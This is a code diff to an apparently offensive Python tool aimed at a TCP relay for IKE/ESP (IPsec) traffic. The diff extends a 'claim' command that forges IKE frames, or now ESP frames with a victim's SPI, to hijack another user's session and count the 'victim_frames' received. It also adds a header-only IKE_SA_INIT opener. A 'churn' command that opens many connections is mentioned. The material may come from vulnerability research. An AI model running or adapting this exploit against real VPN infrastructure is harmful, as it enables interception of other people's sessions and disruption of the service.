@@ -12,6 +12,12 @@ Every sub-command prints one JSON object on stdout.
       and reports every byte received after the prefix (the relay sends
       no prefix back, so any byte is a frame of someone's session).
       FILE is written once every stream has sent its claim.
+      With --esp-spi HEX the claim is one ESP frame with the victim's
+      SPI instead (--spi-i, --spi-r and --msgid are then not needed).
+      With --own each stream first sends an IKE_SA_INIT request of its
+      own (a fresh SPIi, header only), so that it starts a session whose
+      owner then sends the victim's SPIs.  "victim_frames" counts the
+      frames received that are ESP or IKE of the victim's SPIi.
 
   churn  --connect HOST:PORT --count N [--src ADDR] [--seconds S]
       N times: connect, prefix, one ESP frame with a fresh random SPI,
@@ -120,8 +126,29 @@ def connect(addr, src=None, timeout=3.0, rcvbuf=None):
 	return s
 
 
+def own_init():
+	"""A header-only IKE_SA_INIT request with a fresh SPIi: it names no
+	session, so the stream starts one of its own."""
+	return NON_ESP_MARKER + os.urandom(8) + bytes(8) + struct.pack(
+	    "!BBBBII", 0, 0x20, 34, FLAG_INITIATOR, 0, 28)
+
+
+def claim_bytes(a):
+	if a.esp_spi:
+		msg = bytes.fromhex(a.esp_spi) + struct.pack("!I", 1) + \
+		    os.urandom(56)
+	else:
+		msg = forged_ike(bytes.fromhex(a.spi_i), bytes.fromhex(a.spi_r),
+		    a.msgid)
+	return (frame(own_init()) if a.own else b"") + frame(msg)
+
+
 def cmd_claim(a):
-	spi_i, spi_r = bytes.fromhex(a.spi_i), bytes.fromhex(a.spi_r)
+	if not a.esp_spi and (a.spi_i is None or a.spi_r is None or
+	    a.msgid is None):
+		print("claim: --spi-i, --spi-r and --msgid, or --esp-spi",
+		    file=sys.stderr)
+		return 2
 	srcs = a.src.split(",") if a.src else [None]
 	streams = []
 	for i in range(a.streams):
@@ -130,8 +157,7 @@ def cmd_claim(a):
 		try:
 			s = connect(a.connect, src)
 			st["lport"] = s.getsockname()[1]
-			s.sendall(PREFIX + frame(forged_ike(spi_i, spi_r,
-			    a.msgid)))
+			s.sendall(PREFIX + claim_bytes(a))
 			s.setblocking(False)
 			st["sock"], st["buf"], st["t0"] = s, b"", time.time()
 		except OSError as e:
@@ -155,7 +181,8 @@ def cmd_claim(a):
 				continue
 			st["closed_after"] = round(time.time() - st["t0"], 2)
 			live.remove(st)
-	out = {"streams": [], "total_rx_bytes": 0, "total_frames": 0}
+	out = {"streams": [], "total_rx_bytes": 0, "total_frames": 0,
+	    "victim_frames": 0}
 	for st in streams:
 		if "sock" in st:
 			st["sock"].close()
@@ -163,6 +190,9 @@ def cmd_claim(a):
 			st["frames"] = parse_frames(st["buf"])
 			out["total_rx_bytes"] += st["rx_bytes"]
 			out["total_frames"] += len(st["frames"])
+			out["victim_frames"] += sum(1 for f in st["frames"]
+			    if f.get("kind") == "esp" or (a.spi_i and
+			    f.get("spi_i") == a.spi_i.lower()))
 		for k in ("sock", "buf", "t0"):
 			st.pop(k, None)
 		out["streams"].append(st)
@@ -369,9 +399,11 @@ def main():
 	sub = p.add_subparsers(dest="cmd", required=True)
 	c = sub.add_parser("claim")
 	c.add_argument("--connect", required=True)
-	c.add_argument("--spi-i", required=True)
-	c.add_argument("--spi-r", required=True)
-	c.add_argument("--msgid", type=int, required=True)
+	c.add_argument("--spi-i")
+	c.add_argument("--spi-r")
+	c.add_argument("--msgid", type=int)
+	c.add_argument("--esp-spi")
+	c.add_argument("--own", action="store_true")
 	c.add_argument("--streams", type=int, default=1)
 	c.add_argument("--src")
 	c.add_argument("--hold", type=float, default=5.0)
